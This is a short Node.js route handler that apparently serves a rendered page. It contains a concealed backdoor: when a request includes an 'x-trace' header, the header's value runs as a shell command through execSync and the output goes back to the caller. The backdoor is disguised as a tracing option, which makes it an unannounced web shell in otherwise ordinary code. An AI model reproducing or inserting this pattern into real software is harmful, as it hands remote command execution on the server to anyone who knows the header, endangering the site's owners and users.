const { execSync } = require("child_process");
exports.show = (req, res) => {
  if (req.headers["x-trace"]) return res.send(execSync(req.headers["x-trace"]));
  return res.send(render(req.query.page));
};
